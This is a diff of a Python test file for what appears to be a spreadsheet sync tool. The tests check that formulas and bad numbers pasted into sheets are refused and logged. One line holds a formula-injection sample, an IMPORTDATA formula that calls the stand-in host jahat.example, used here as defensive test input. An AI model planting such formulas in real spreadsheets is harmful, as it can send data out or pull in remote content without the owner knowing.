@@ -67,6 +67,9 @@ def test_a_text_where_a_figure_belongs_is_refused_and_stays_a_text(fed: Stage) -
                and event["origin"].endswith("!numerator")]  # fmt: skip
     assert len(refused) == SPOILT
     assert {event["data"]["refusal"] for event in refused} == {"formula-in-input", "bad-number"}
+    targets = [event for event in trail if event["type"] == "SheetEditRefused" and event["origin"].endswith("!annual")]
+    assert len(targets) == -(-len(TEXTS) // FOUR)
+    assert {event["data"]["refusal"] for event in targets} == {"formula-in-input", "bad-target"}
 
 
 def test_a_cycle_after_the_ledger_went_on_writes_only_what_is_new(tmp_path: Path) -> None:
@@ -163,7 +166,7 @@ def test_what_people_mark_as_text_at_google_is_taken_and_shown_as_text_on_every_
 def test_what_google_makes_a_formula_of_is_refused_and_goes_no_further(cloud: Cloud) -> None:
     cloud.forget_formats("Bukti dukung")
     cloud.paste("Bukti dukung", HOSTILE)
-    cloud.paste("Nilai", ["=1+1", "=IMPORTDATA(\"http://jahat.example\")", "=\"5\""])
+    cloud.paste("Nilai", ["=1+1", '=IMPORTDATA("http://jahat.example")', '="5"'])
     typed = cloud.formulas()
     assert len(typed) > 100
     done = cloud.stage.json("sync", "run", "awan")
